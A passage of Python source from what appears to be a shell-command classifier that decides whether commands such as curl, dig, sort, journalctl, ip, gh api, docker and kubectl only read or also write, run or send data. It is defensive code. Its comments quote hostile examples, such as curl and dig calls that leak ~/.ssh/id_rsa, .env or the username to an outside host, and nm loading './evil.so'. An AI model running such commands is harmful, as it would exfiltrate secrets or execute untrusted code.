            return _write([_lit(".")] + [_lit("./" + u.rstrip("/").rpartition("/")[2])
                                         for u in texts if u.startswith(("http://", "https://"))
                                         and u.rstrip("/").count("/") > 2]).blame("option", t)
    return None


_CURL_SAFE_FLAGS = "sSLIifvkg"
_CURL_SAFE_LONG = frozenset(("--silent", "--show-error", "--location", "--head", "--include",
                             "--fail", "--verbose", "--compressed", "--globoff", "--http1.1",
                             "--http2", "--no-progress-meter", "--fail-with-body"))
_CURL_SAFE_VALUED = frozenset(("-H", "--header", "-A", "--user-agent", "-m", "--max-time",
                               "--connect-timeout", "--retry", "-e", "--referer", "-w",
                               "--write-out", "-r", "--range"))


def _curl(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """A plain GET to stdout reads; anything that uploads, saves or reads a config does not."""
    writes = _curl_writes(args)
    if writes is not None:
        return writes
    if not all(w.static or (not w.dyn and w.text.lower().startswith(("http://", "https://")))
               for w in args):
        # A URL, header or agent built from a variable or a substitution
        # sends whatever it holds: `curl "https://x/?d=$(cat ~/.ssh/id_rsa)"`.
        # (An unquoted `?` in a URL is a glob, but it could only match names
        # under a folder called `https:`, not local data.)
        return _unknown("network_data_unproven")
    i = 0
    while i < len(args):
        w = args[i]
        i += 1
        if w.opaque:
            return _unknown("shell_syntax_unproven")
        t = w.text
        if not t.startswith("-"):
            if not t.lower().startswith(("http://", "https://")):
                return _unknown()
            continue
        if t in _CURL_SAFE_LONG or (not t.startswith("--") and all(
                ch in _CURL_SAFE_FLAGS for ch in t[1:])):
            continue
        if t in _CURL_SAFE_VALUED:
            value = args[i].text if i < len(args) else ""
            i += 1
            # curl 8.3+ writes the rest of -w to a file after %output{FILE};
            # @FILE reads a format (or, for -H, headers to send) from a file.
            if value.startswith("@") or "%output" in value.lower():
                return _unknown()
            continue
        return _unknown()
    return _an_read()


def _pager(name: str, args: List[_W], ctx: _Ctx) -> _V:
    return _unknown()


# ---- network reads ----------------------------------------------------------
#
# A request that only asks (a lookup, a GET, a registry query) reads, as
# long as everything it sends is written out in the command: a variable, a
# substitution, a glob or a file read into the request may carry local data
# to the other host (`dig $(whoami).example.com`, `curl -d @.env`).

def _offline_data(args: List[_W]) -> Optional[_V]:
    """Unknown when some word of a network request is not written out."""
    if all(w.static for w in args):
        return None
    return _unknown("network_data_unproven")


def _net_lookup(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """dig, host, nslookup, ping with the names written out."""
    sent = _offline_data(args)
    if sent is not None:
        return sent
    texts = [w.text for w in args]
    if name == "dig" and any(t.startswith(("-f", "-k")) for t in texts):
        return _unknown("network_data_unproven")   # queries or a key read from a file
    if name == "nslookup":
        operands = [t for t in texts if not t.startswith("-") or t == "-"]
        if not operands or operands[0] == "-":
            # No name: it reads its queries from standard input (`cat .env | nslookup`).
            return _unknown("network_data_unproven")
    return _an_read()


def _network_read(handler: Callable[[str, List[_W], "_Ctx"], _V]
                  ) -> Callable[[str, List[_W], "_Ctx"], _V]:
    """A registry client whose read verbs query a server: they read only
    with every word written out."""
    def wrapped(name: str, args: List[_W], ctx: _Ctx) -> _V:
        v = handler(name, args, ctx)
        if v.mut == "read":
            sent = _offline_data(args)
            if sent is not None:
                return sent
        return v
    return wrapped


# ---- programs judged by a table ----------------------------------------------
#
# Each row is the program's option table (see `_Opts` for the grammar) and,
# above it, why it is what it is and a few examples (`#:` lines, checked
# like the corpus).

# sort prints; -o writes its file and --compress-program runs a program.
#: read | sort -t, -k2 data.csv
#: read | sort -rn --key=2 counts.txt
#: write >out.txt | sort -o out.txt a.txt
#: unknown =shell_execution_option | sort --compress-program=gzip a.txt
_SORT = _Opts(
    "-bdfgiMhnRrVcCmsuz -kotST: --ignore-leading-blanks --dictionary-order --ignore-case "
    "--general-numeric-sort --ignore-nonprinting --month-sort --human-numeric-sort "
    "--numeric-sort --random-sort --random-source: --reverse --sort: --version-sort "
    "--batch-size: --check? --compress-program: --debug --files0-from: --field-separator: "
    "--key: --merge --output: --stable --buffer-size: --temporary-directory: --parallel: "
    "--unique --zero-terminated --help --version",
    write="-o --output", runs="--compress-program")
# uniq's second operand is the file it writes.
#: read | uniq -c counts.txt
#: write >out.txt | uniq in.txt out.txt
_UNIQ = _Opts(
    "-cdDiuz -fsw: --count --repeated --all-repeated? --skip-fields: --group? --ignore-case "
    "--skip-chars: --unique --zero-terminated --check-chars: --help --version",
    write_operand=1)
#: read | tree -a -I '.git|node_modules' -L 3
#: write >out.txt | tree -o out.txt
_TREE = _Opts(
    "-adlfxpsughDFqNQrtvUCASniJX -LPIoH: --noreport --charset: --dirsfirst --filesfirst "
    "--gitignore --prune --matchdirs --sort: --du --si --filelimit: --timefmt: --version "
    "--help --fromfile --info --hyperlink --metafirst",
    write="-o")
# xxd writes its second operand; its options end at the first operand.
#: read | xxd -g1 -l 64 a.bin
#: write >out.hex | xxd a.bin out.hex
#: write | xxd a.txt -u
_XXD = _Opts(
    "-aCEeipruhdvb -cglsonR: --autoskip --bits --cols: --capitalize --EBCDIC --groupsize: "
    "--include --len: --name: --postscript --plain --ps --revert --seek: --uppercase "
    "--version --help",
    permute=False, write_operand=1)
# -C compiles a magic file; -p restores access times after reading: a
# metadata write.
#: read | file -b --mime-type a.bin
#: write | file -C -m magic
#: write | file -p a.txt
_FILE = _Opts(
    "-bcdEhiIkLlNnprsSvz0ZC -eFfmP: --brief --mime --mime-type --mime-encoding --dereference "
    "--no-dereference --keep-going --raw --special-files --uncompress --extension --apple "
    "--files-from: --separator: --exclude: --help --version --print0 --no-pad --no-buffer "
    "--preserve-date --compile --checking-printout --magic-file: --parameter: "
    "--exclude-quiet: --list",
    write="-C --compile -p --preserve-date")
#: read | zipinfo -1 a.zip
#: notread | zipinfo -M a.zip
_ZIPINFO = _Opts("-12smlvhtTzCx")


def _all_static(operands: List[_W]) -> Optional[_V]:
    """A lookup that may leave the machine reads only what is written out:
    `getent hosts $(whoami).example.com` would send a name to a DNS server."""
    return None if all(w.static for w in operands) else _unknown("shell_syntax_unproven")


def _no_assignment(operands: List[_W]) -> Optional[_V]:
    """`sysctl name=value` sets the value, with or without -w."""
    if all(w.static and "=" not in w.text for w in operands):
        return None
    return _unknown("state_change")


# -s names the NSS module getent loads: a library chosen by the command.
#: read | getent hosts localhost
#: unknown =shell_execution_option | getent -s files passwd
#: notread | getent hosts $(whoami).example.com
_GETENT = _Opts(
    "-Ai -s: --no-addrconfig --no-idn --service: --help --usage --version",
    runs="-s --service", check=_all_static)
# Its cache of package lists is rebuilt (as root) when out of date, as git
# refreshes its index on `git status`: nothing else is written.  -o, -c, -p
# and -s (other configuration, other cache files) stay unproven.
#: read | apt-cache depends --recurse --installed curl
#: notread | apt-cache gencaches
_APT_CACHE = _Opts(
    "-qiafn --quiet --important --no-pre-depends --no-depends --no-recommends --no-suggests "
    "--no-conflicts --no-breaks --no-replaces --no-enhances --implicit --full --all-versions "
    "--no-all-versions --names-only --all-names --recurse --installed",
    verbs=frozenset(("policy", "show", "showpkg", "showsrc", "search", "depends", "rdepends",
                     "madison", "stats", "pkgnames", "unmet")))
# systemd tools run a pager only on a terminal, as git log does.  -H/--host
# reaches another machine through ssh; -M, --root and --image are left out.
#: read | systemctl status nginx --no-pager
#: notread | systemctl restart nginx
#: unknown =shell_execution_option | systemctl -H web1 status
_SYSTEMCTL = _Opts(
    "-alrqh -tpPnoH: --system --user --type: --state: --failed --property: --all --full "
    "--recursive --reverse --with-dependencies --show-types --value --legend: --no-legend "
    "--no-pager --no-ask-password --plain --lines: --output: --timestamp: --quiet --host: "
    "--help --version",
    runs="-H --host",
    verbs=frozenset(("", "list-units", "list-automounts", "list-sockets", "list-timers",
                     "is-active", "is-failed", "status", "show", "cat", "list-dependencies",
                     "list-unit-files", "is-enabled", "get-default", "list-machines",
                     "list-jobs", "show-environment", "is-system-running")))
# journalctl shows the journal unless told to change it.  -b and -n take
# the next word only when it is a boot or a count (`-b -1`), hence the
# digits.  --cursor-file writes the file it names; the others remove,
# rotate, move or add journal files, catalogs and keys.
#: read | journalctl -u nginx -n 50 --no-pager
#: read | journalctl -b -1
#: write >c.txt | journalctl --cursor-file c.txt
#: unknown =state_change | journalctl --vacuum-time=1d
_JOURNALCTL = _Opts(
    "-mbknrxalfqeNh0123456789 -DSUcutpgoF: --system --user --merge --directory: --file: "
    "--namespace: --since: --until: --cursor: --after-cursor: --boot? --unit: --user-unit: "
    "--identifier: --priority: --facility: --grep: --case-sensitive? --dmesg --output: "
    "--output-fields: --lines? --reverse --show-cursor --utc --catalog --no-hostname "
    "--no-full --full --all --follow --no-tail --quiet --no-pager --pager-end --help "
    "--version --fields --field: --list-boots --disk-usage --header --list-catalog "
    "--dump-catalog --verify --verify-key: --cursor-file: --vacuum-size: --vacuum-files: "
    "--vacuum-time: --rotate --sync --flush --relinquish-var --smart-relinquish-var "
    "--update-catalog --setup-keys",
    write="--cursor-file",
    state="--vacuum-size --vacuum-files --vacuum-time --rotate --update-catalog "
          "--setup-keys --sync --flush --relinquish-var --smart-relinquish-var")
#: read | hostnamectl status
#: notread | hostnamectl set-hostname web1
_HOSTNAMECTL = _Opts(
    "-h -H: --help --version --no-ask-password --host: --json:",
    runs="-H --host", verbs=frozenset(("", "status")), max_operands=1)
#: read | timedatectl show -p Timezone --value
#: notread | timedatectl set-timezone UTC
_TIMEDATECTL = _Opts(
    "-ha -pH: --help --version --no-pager --no-ask-password --host: --property: --all "
    "--value --monitor",
    runs="-H --host",
    verbs=frozenset(("", "status", "show", "list-timezones", "timesync-status",
                     "show-timesync")), max_operands=1)
# They clear the kernel's buffer or change what reaches the console.
#: read | dmesg --level=err,warn
#: unknown =state_change | dmesg -c
_DMESG = _Opts(
    "-CcDEHJkLPprSuwWxdeTthV -Fflsn: --clear --read-clear --console-off --console-on "
    "--file: --facility: --human --json --kernel --color? --level: --console-level: "
    "--nopager --force-prefix --raw --noescape --syslog --buffer-size: --userspace --follow "
    "--follow-new --decode --show-delta --reltime --ctime --notime --time-format: --since: "
    "--until: --help --version",
    state="-C --clear -c --read-clear -D --console-off -E --console-on -n --console-level",
    max_operands=0)
#: read | sysctl -n net.ipv4.ip_forward
#: notread | sysctl kernel.panic=1
#: unknown =state_change | sysctl -w kernel.panic=1
_SYSCTL = _Opts(
    "-aAXbeNnqoxdhVwpf -r: --all --deprecated --binary --ignore --names --values --pattern: "
    "--quiet --help --version --write --load? --system",
    state="-w --write -p -f --load --system", check=_no_assignment)
#: read | fuser -v -n tcp 8080
#: unknown =state_change | fuser -km /mnt
_FUSER = _Opts(
    "-aiIlmMsuvwVk46 -n: --all --interactive --inode --kill --list-signals --mount "
    "--ismountpoint --namespace: --silent --user --verbose --writeonly --version --ipv4 "
    "--ipv6",
    state="-k --kill")
#: read | iconv -f latin1 -t utf-8 a.txt
#: write >out.txt | iconv --output=out.txt a.txt
_ICONV = _Opts(
    "-clsV -fto: --from-code: --to-code: --list --output: --silent --verbose --help --usage "
    "--version",
    write="-o --output")
# Only the forms that print the settings; any SETTING word changes the terminal.
#: read | stty -a
#: notread | stty -echo
_STTY = _Opts("-ag --all --save --help --version", max_operands=0)
# `mount` alone (or -l, -t TYPE) lists; with an operand it mounts.
#: read | mount -t ext4
#: notread | mount /dev/sda1 /mnt
_MOUNT = _Opts("-lvhV -t: --show-labels --verbose --types: --help --version", max_operands=0)
#: read | lsb_release -a
_LSB_RELEASE = _Opts(
    "-hvidrcas --help --version --id --description --release --codename --all --short",
    max_operands=0)
#: read | crontab -l
#: notread | crontab -r
_CRONTAB = _Opts("-l -u:", needs="-l", max_operands=0)
# ss -K closes sockets, -D writes a dump; -r and -N (name lookups, other
# namespaces) are left out.
#: read | ss -tlnp
#: unknown =state_change | ss -K dst 192.0.2.1
_SS = _Opts(
    "-hVnaloempTisbEZz460tMSudwxHOK -fAFD: --help --version --numeric --all --listening "
    "--options --extended --memory --processes --threads --info --tipcinfo --summary --tos "
    "--cgroup --bpf --events --context --contexts --ipv4 --ipv6 --packet --tcp --mptcp --sctp "
    "--udp --dccp --raw --unix --tipc --vsock --xdp --family: --no-header --oneline "
    "--inet-sockopt --query: --socket: --filter: --kill --diag:",
    write="-D --diag", state="-K --kill")
#: read | netstat -tlnp
_NETSTAT = _Opts(
    "-rigsMvWnNepoclaFCZtuUSwx46hV -A: --route --interfaces --groups --statistics "
    "--masquerade --verbose --wide --numeric --numeric-hosts --numeric-ports --numeric-users "
    "--symbolic --extend --programs --timers --continuous --listening --all --fib --cache "
    "--context --tcp --udp --udplite --sctp --raw --unix --protocol: --help --version",
    max_operands=0)
# ifconfig with one interface (or none) shows it; any word after the
# interface changes it (`ifconfig eth0 down`, `ifconfig eth0 -arp`).
#: read | ifconfig eth0
#: notread | ifconfig eth0 down
_IFCONFIG = _Opts("-asv", permute=False, max_operands=1)
# Both programs named yq: -i (--in-place, --inplace) rewrites the file and
# Go yq's -s (--split-exp) writes one file per document.  Python yq takes
# any unambiguous prefix of a long option, so the writers stay in the table
# and a prefix shared with them is refused.
#: read | yq -r '.a[]' data.yaml
#: write | yq -i '.a = 1' data.yaml
_YQ = _Opts(
    "-renCMyYjPcis -opI: --yaml-output --yaml-roundtrip --raw-output --exit-status "
    "--null-input --compact-output --output-format: --input-format: --unwrapScalar "
    "--prettyPrint --no-colors --colors --indent: --in-place --inplace --split-exp: "
    "--split-exp-file:",
    write="-i --in-place --inplace -s --split-exp --split-exp-file")


def _names_only(operands: List[_W]) -> Optional[_V]:
    """Names to print: no `x=1` to assign, no `a[$(cmd)]` whose subscript runs cmd."""
    if all(w.static and _is_name(w.text) for w in operands):
        return None
    return _unknown("state_change")


# Inert but for a long option that runs a program: nm --plugin loads a
# shared object, diff3 --diff-program runs one.  Every other option only
# shapes the output (the tables are open), and getopt takes any unique
# prefix, so `--pl` is --plugin too.
#: read | nm -C a.o
#: unknown =shell_execution_option | nm --plugin ./evil.so a.o
#: unknown =shell_execution_option | nm --pl=./evil.so a.o
#: read | diff3 -m a b c
#: unknown =shell_execution_option | diff3 --diff-program=./evil a b c
_NM = _Opts("--plugin?", runs="--plugin", open=True)
_DIFF3 = _Opts("--diff-program?", runs="--diff-program", open=True)
# Shell built-ins in the forms that only print: `ulimit -n` shows a limit
# (`ulimit -n 64` sets it), `umask` and `umask -S` show the mask, `history`
# and `history 20` list (their options clear or write the history file),
# `shopt` and `shopt -p NAME` print (-s and -u set), `declare -p`/`-f` print
# variables and functions (zsh reads `declare -F x` as a new float).
#: read | ulimit -n
#: notread | ulimit -n 1024
#: read | umask -S
#: notread | umask 022
#: read | history 20
#: notread | history -c
#: read | shopt -p extglob
#: notread | shopt -s extglob
#: read | declare -p PATH
#: read | typeset -p PATH
#: notread | declare -F f
_ULIMIT = _Opts("-HSabcdefiklmnpqrstuvxPRT", max_operands=0)
_UMASK = _Opts("-Sp", max_operands=0)
_HISTORY = _Opts(max_operands=1)
_SHOPT = _Opts("-pqo", check=_names_only)
_DECLARE = _Opts("-pf", needs="-p -f", check=_names_only)


# ---- programs that read in some modes only ----------------------------------
# Compressors write (the file in place, or beside it) unless they write to
# standard output (-c), every operand is "-" (standard input to standard
# output, `… | gunzip`), or a mode only shows (-l lists, -t tests).  For
# xz, zstd and bzip2 the last of -z, -d, -t, -l wins (`xz -t a.xz -z`
# compresses), so a showing mode counts only with neither -z nor -d
# anywhere.  The deciding option must come before the first file: with
# POSIXLY_CORRECT set, `gzip a.txt -c` compresses a.txt and then a file
# named -c.  Any other shape is the write it always was (--files, -r and
# -o are left out: they name files to change).
#: read | gunzip -c a.txt.gz
#: read | git show HEAD:a.txt.gz | gunzip
#: write | gzip a.txt -c
#: read | xz -dc a.xz
#: write | bzip2 -t a.bz2 -z
_GZIP_SPEC = _Opts(
    "-cdfhklLnNqrtvV123456789 -S: --stdout --to-stdout --decompress --uncompress --force "
    "--help --keep --list --license --no-name --name --quiet --recursive --rsyncable "
    "--suffix: --synchronous --test --verbose --version --fast --best")
_BZIP2_SPEC = _Opts(
    "-cdzkftqvhLVs123456789 --help --decompress --compress --keep --force --test --stdout "
    "--quiet --verbose --license --version --small --fast --best")
_XZ_SPEC = _Opts(
    "-zdtlkfcqvQhHVe0123456789 -SFCTM: --compress --decompress --uncompress --test --list "
    "--keep --force --stdout --to-stdout --single-stream --no-sparse --suffix: --format: "
    "--check: --ignore-check --extreme --threads: --memlimit-decompress: --memlimit: "
    "--memory: --no-adjust --quiet --verbose --no-warn --robot --help --long-help --version")
_ZSTD_SPEC = _Opts(
    "-cdfklqtvVhH0123456789 --stdout --decompress --uncompress --force --keep --list --test "
    "--quiet --verbose --version --help --progress --no-progress --check --no-check --sparse "
    "--no-sparse --single-thread")
_TO_STDOUT = frozenset(("c", "stdout", "to-stdout"))
_PACKER_SHOWS = _TO_STDOUT | frozenset(("l", "list", "t", "test"))
_REMODING = frozenset(("z", "d", "compress", "decompress", "uncompress"))
# `kill -l` and `kill -L` list the signals; `kill -0 PID` sends none and
# only tells whether PID exists (bash, zsh, dash and procps kill alike).
# The shells stop at the first PID, but procps kill (`env kill`, `/bin/kill`,
# `timeout 5 kill`) permutes: `/bin/kill -0 PID -s 9` kills PID (seen), so
# every operand must be a PID, a process group (-N) or a job (%N).
#: read | kill -0 123
#: notread | kill -0 $PID
#: write | kill -9 -1
_KILL_SPEC = _Opts("-lL0", permute=False)


def _kill_target(text: str) -> bool:
    digits = text[1:] if text.startswith("-") else text
    return (digits.isascii() and digits.isdigit()) or (text.startswith("%") and len(text) > 1)


# program -> (its options, the options that make it only show)
_READ_MODES: Dict[str, Tuple[_Opts, frozenset]] = {
    "gzip": (_GZIP_SPEC, _PACKER_SHOWS), "gunzip": (_GZIP_SPEC, _PACKER_SHOWS),
    "bzip2": (_BZIP2_SPEC, _PACKER_SHOWS), "bunzip2": (_BZIP2_SPEC, _PACKER_SHOWS),
    "xz": (_XZ_SPEC, _PACKER_SHOWS), "unxz": (_XZ_SPEC, _PACKER_SHOWS),
    "zstd": (_ZSTD_SPEC, _PACKER_SHOWS), "unzstd": (_ZSTD_SPEC, _PACKER_SHOWS),
    "kill": (_KILL_SPEC, frozenset("lL0")),
}


def _reads_in_mode(args: List[_W], spec: _Opts, shows: frozenset) -> bool:
    fail, operands, seen = _read_options(args, spec)
    if fail is not None:
        return False
    if shows is _PACKER_SHOWS and all(w.static and w.text == "-"
                                      for w in _posix_operands(args, spec)):
        # `gzip - -c` with POSIXLY_CORRECT set compresses a file named -c.
        return True
    if shows is not _PACKER_SHOWS and not all(w.static and _kill_target(w.text)
                                              for w in operands):
        return False    # `kill -0 $PID` may hold `-9 1`; `-s 9` after a PID
    leading = {opt for opt, _, _ in _read_options(args, spec, permute=False)[2]}
    return bool(leading & shows) and (bool(leading & _TO_STDOUT) or not any(
        opt in _REMODING for opt, _, _ in seen))


def _tput(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """tput prints capabilities, but `tput init` and `tput reset` also set the
    terminal's modes, as `stty sane` does (seen: they turn echo back on), and
    -S takes the capability names from standard input."""
    for w in args:
        if not w.static or w.glob or w.text in ("init", "reset") or (
                w.text.startswith("-") and "S" in w.text):
            return _unknown("state_change")
    return _an_read()


# ip: options matched by their whole spelling (ip takes any prefix of its
# own, and `-b` is -batch, which runs the commands of a file; -n enters
# another namespace, -r asks DNS, -force and -all go with writes).
_IP_FLAGS = frozenset((
    "-4", "-6", "-0", "-s", "-stats", "-statistics", "-d", "-details", "-o", "-oneline",
    "-br", "-brief", "-j", "-json", "-p", "-pretty", "-c", "-color", "-h", "-human",
    "-human-readable", "-N", "-Numeric", "-t", "-timestamp", "-ts", "-tshort", "-iec",
    "-V", "-Version"))
# Object spellings -> the object; each object -> the words after it that
# only show (none at all shows too).  Whole words only: `ip link s` is set.
_IP_OBJECTS = {
    "a": "address", "addr": "address", "address": "address", "r": "route", "ro": "route",
    "route": "route", "l": "link", "link": "link", "n": "neigh", "neigh": "neigh",
    "neighbor": "neigh", "neighbour": "neigh", "ru": "rule", "rule": "rule",
    "maddr": "maddress", "maddress": "maddress", "mroute": "mroute", "netconf": "netconf",
    "tunnel": "tunnel", "monitor": "monitor"}
_IP_SHOWS = {"address": ("show", "list", "lst"), "route": ("show", "list", "lst", "get"),
             "link": ("show", "list", "lst"), "neigh": ("show", "list", "lst", "get"),
             "rule": ("show", "list", "lst"), "maddress": ("show", "list", "lst"),
             "mroute": ("show", "list", "lst"), "netconf": ("show", "list"),
             "tunnel": ("show", "list", "lst"), "monitor": None}


def _ip(name: str, args: List[_W], ctx: _Ctx) -> _V:
    if not all(w.static for w in args):
        return _unknown("shell_syntax_unproven")
    texts = [w.text for w in args]
    k = 0
    while k < len(texts) and texts[k].startswith("-"):
        if texts[k] in ("-f", "-family"):
            k += 2          # the address family
            continue
        if texts[k] not in _IP_FLAGS:
            return _unknown("shell_command_unproven", "option", texts[k])
        k += 1
    obj = _IP_OBJECTS.get(texts[k]) if k < len(texts) else None
    if obj is None:
        return _unknown()
    verbs = _IP_SHOWS[obj]
    if k + 1 >= len(texts) or verbs is None or texts[k + 1] in verbs:
        return _an_read()
    return _unknown("state_change")


_HASH_PROGRAMS = frozenset((
    # GNU coreutils, also under the g prefix Homebrew gives them on macOS
    "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum",
    "sum", "gmd5sum", "gsha1sum", "gsha224sum", "gsha256sum", "gsha384sum", "gsha512sum",
    "gb2sum", "gcksum", "gsum",
    # BSD and macOS digest programs, Perl's shasum/sha3sum, BLAKE3, xxHash, crc32
    "md5", "sha1", "sha224", "sha256", "sha384", "sha512", "sha512t256", "rmd160",
    "skein256", "skein512", "skein1024", "shasum", "sha3sum", "b3sum", "xxhsum", "xxh32sum",
    "xxh64sum", "xxh128sum", "crc32",
    # tools that may also write (an output, an update, a password file)
    "rhash", "hashdeep", "md5deep", "sha1deep", "sha256deep", "tigerdeep", "whirlpooldeep",
    "get-filehash", "jacksum", "ssdeep", "nix-hash", "htpasswd", "mkpasswd", "argon2",
    "hashcat", "cfv",
))

# Hash tools with an output, update or other option we do not model: hash
# intent, never proven read.
_HASH_WITH_OUTPUT = frozenset((
    "get-filehash", "rhash", "hashdeep", "md5deep", "sha1deep", "sha256deep", "tigerdeep",
    "whirlpooldeep", "jacksum", "ssdeep", "nix-hash", "htpasswd", "mkpasswd", "argon2",
    "hashcat", "cfv"))

_INERT = (
    "cat", "head", "tail", "wc", "nl", "od", "hexdump", "strings", "stat", "du", "df", "ls",
    "dir", "vdir", "realpath", "readlink", "basename", "dirname", "pwd", "echo", "true", "false",
    "which", "whereis", "type", "uname", "whoami", "id", "groups", "printenv",
    "grep", "egrep", "fgrep", "zgrep", "zcat", "bzcat", "xzcat", "cut", "tr", "paste",
    "column", "jq", "diff", "cmp", "comm", "seq", "expr", "sleep", "nproc", "tac", "rev",
    "fold", "fmt", "expand", "unexpand", "base64", "base32", "cal", "locale", "uptime", "free",
    "ps", "pgrep", "join", "look", "numfmt", "tty", "arch", "getconf", "lscpu", "sw_vers",
    ":", "pushd", "popd", "dirs", "lsof", "users", "who", "w", "last",
    "objdump", "readelf", "size", "colordiff", "pr", "ts", "yes", "factor",
    "logname", "tokei",
    "findstr", "where", "pstree", "lsblk", "findmnt", "vmstat", "iostat", "lsusb",
    "dpkg-query", "apropos", "whatis", "help", "locate", "namei", "pidof", "pwdx", "lsmod",
) + tuple(_HASH_PROGRAMS - _HASH_WITH_OUTPUT)
# Left out on purpose: ack/ag (--pager runs a program), sdiff (-o writes),
# ldd (may run the binary), cloc/scc (report files), lspci (-q asks a DNS
# server and writes a cache), top (it creates ~/.config/procps when missing,
# and without -b its keys kill and renice), history (see _HISTORY: -w writes).


def _repo_chosen(handler: Callable[[str, List[_W], "_Ctx"], _V]
                 ) -> Callable[[str, List[_W], "_Ctx"], _V]:
    """yarn runs the release `yarnPath` (.yarnrc.yml) or `yarn-path`
    (.yarnrc) names, and pnpm the version `packageManager` names, fetched
    from the registry the project's .npmrc names: even `--version` runs
    what the working folder chose."""
    def wrapped(name: str, args: List[_W], ctx: _Ctx) -> _V:
        v = handler(name, args, ctx)
        return _unknown("repository_code") if v.mut == "read" else v
    return wrapped


_BUN_EVAL = _interp("bun")
_PY_INTERP = _interp("python")
_BUN_NPM = _network_read(_npm)


def _bun(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """bun -e runs its code like node -e; every other bun is a package manager."""
    if args and args[0].text in ("-e", "--eval"):
        return _BUN_EVAL(name, args, ctx)
    return _BUN_NPM(name, args, ctx)


def _shell_state(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """Built-ins that change the shell itself (aliases, options, variables,
    traps, the argument list): what runs after them is no longer known."""
    return _unknown("state_change")


def _runs_in_shell(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """Code run in this shell (trap DEBUG runs before every command): it may cd anywhere."""
    return _runs_here(_unknown("state_change"))


def _reruns(name: str, args: List[_W], ctx: _Ctx) -> _V:
    """`emulate sh -c CODE` runs CODE; fc re-runs or edits history commands."""
    return _runs_here(_unknown())




def _gh(name: str, args: List[_W], ctx: _Ctx) -> _V:
    texts = [w.text for w in args]
    if texts in (["--version"], ["version"]):
        return _an_read()
    if len(texts) < 2 or not all(w.static for w in args):
        return _unknown()
    group, verb = texts[0], texts[1]
    reads = {"pr": ("view", "list", "diff", "checks", "status"),
             "issue": ("view", "list", "status"), "repo": ("view", "list"),
             "run": ("view", "list"), "release": ("view", "list"), "workflow": ("view", "list"),
             "search": ("issues", "prs", "repos", "code", "commits"), "auth": ("status",)}
    if group == "api":
        return _gh_api(texts[1:])
    if verb in reads.get(group, ()):
        # --web opens a browser; pflag also takes `--web=true` and `-w` inside
        # a cluster of short flags (`-cw`).
        if any(t.split("=", 1)[0] == "--web" or (t.startswith("-") and not t.startswith("--")
                                                  and "w" in t) for t in texts):
            return _unknown()
        return _an_read()
    if group in reads or group in ("gist", "label", "secret", "variable"):
        return _write()
    return _unknown()


# `gh api` options that send a body, and so switch the method to POST.
_GH_BODY_OPTIONS = ("--field", "--raw-field", "--input")


def _gh_api(rest: List[str]) -> _V:
    """`gh api` reads only with the GET method in every spelling of the option:
    `-X M`, `-XM`, `-X=M`, `--method M`, `--method=M`, or X inside a cluster."""
    method = "GET"
    k = 0
    while k < len(rest):
        t = rest[k]
        k += 1
        value = None
        if t in ("-X", "--method"):
            if k >= len(rest):
                return _unknown("option_value_missing")
            value = rest[k]
            k += 1
        elif t.startswith("--method="):
            value = t[len("--method="):]
        elif t.startswith(_GH_BODY_OPTIONS):
            value = "POST" if method == "GET" else method
        elif t.startswith("-") and not t.startswith("--") and len(t) > 1:
            cluster = t[1:]
            if cluster.startswith("X"):
                value = cluster[1:].lstrip("=")
            elif "X" in cluster:
                return _unknown("shell_command_unproven")
            elif "f" in cluster or "F" in cluster:
                value = "POST" if method == "GET" else method
        if value is not None:
            method = value.upper()
    return _an_read() if method == "GET" else _write()


def _subcommand_reads(table: Dict[str, Tuple[str, ...]], deny_long: Tuple[str, ...] = (),
                      deny_short: str = "", lead: Optional[Dict[str, int]] = None
                      ) -> Callable[[str, List[_W], _Ctx], _V]:
    """Tools whose read-only verbs are known; every other verb is unproven.

    deny_long/deny_short name options that write or run something whatever
    the verb (pflag: `--opt`, `--opt=v`; `-o` also attached or in a cluster;
    kubectl reads `_` in a flag name as `-`: `--cache_dir` is --cache-dir).
    lead: options that may come before the verb, and whether each takes the
    next word (`kubectl -n kube-system get pods`).  The count must be right:
    an option wrongly taken to need a value would hide the verb after it.
    """
    def handler(name: str, args: List[_W], ctx: _Ctx) -> _V:
        words = [w.text for w in args]
        if words in (["--version"], ["version"], ["-v"]):
            return _an_read()
        if not args or not all(w.static for w in args):
            return _unknown()
        for t in words:
            if t == "--":
                break
            if t.startswith("--") and t[2:].split("=", 1)[0].replace("_", "-") in deny_long:
                return _unknown("shell_execution_option", "option", t)
            if t.startswith("-") and not t.startswith("--") and any(ch in deny_short
                                                                    for ch in t[1:]):
                return _unknown("shell_execution_option", "option", t)
        while lead and words and words[0].startswith("-"):
            key, eq, _ = words[0].partition("=")
            if key not in lead or (eq and not lead[key]):
                break
            words = words[1 + (lead[key] if not eq else 0):]
        if words and words[0] in table.get("", ()):
            return _an_read()
        if len(words) > 1 and words[1] in table.get(words[0], ()):
            return _an_read()
        return _unknown()
    return handler


_DOCKER = _subcommand_reads({
    "": ("ps", "images", "info", "version", "inspect", "logs", "top", "port", "history",
         "stats", "diff", "events", "save", "export"),
    "image": ("ls", "inspect", "history", "save"),
    "container": ("ls", "inspect", "logs", "top", "port", "stats", "diff", "export"),
    "system": ("df", "info", "events"), "context": ("ls", "inspect", "show"),
    "compose": ("ps", "config", "ls"), "network": ("ls", "inspect"), "volume": ("ls", "inspect"),
    "service": ("ls", "inspect", "ps", "logs"), "node": ("ls", "inspect", "ps"),
    "stack": ("ls", "ps", "services"), "secret": ("ls", "inspect"), "config": ("ls", "inspect"),
    "plugin": ("ls", "inspect")},
    lead={"--context": 1, "-c": 1, "--log-level": 1, "-l": 1, "--debug": 0, "-D": 0},
    # `docker compose config -o FILE` saves the model to FILE.
    deny_long=("output",), deny_short="o")
_KUBECTL = _subcommand_reads({
    "": ("get", "describe", "explain", "api-resources", "api-versions", "cluster-info",
         "version", "top", "logs", "events", "wait", "completion"),
    "config": ("view", "get-contexts", "current-context", "get-clusters", "get-users"),
    "auth": ("can-i", "whoami"), "rollout": ("status", "history"), "plugin": ("list",)},
    # --profile writes profile.pprof (or --profile-output); --kubeconfig may
    # name a file whose exec credential plugin runs a program; --server sends
    # the current credentials elsewhere; `cluster-info dump
    # --output-directory` and --cache-dir write files; older kubectl writes
    # its own log to --log-file or --log-dir; -k/--kustomize builds a
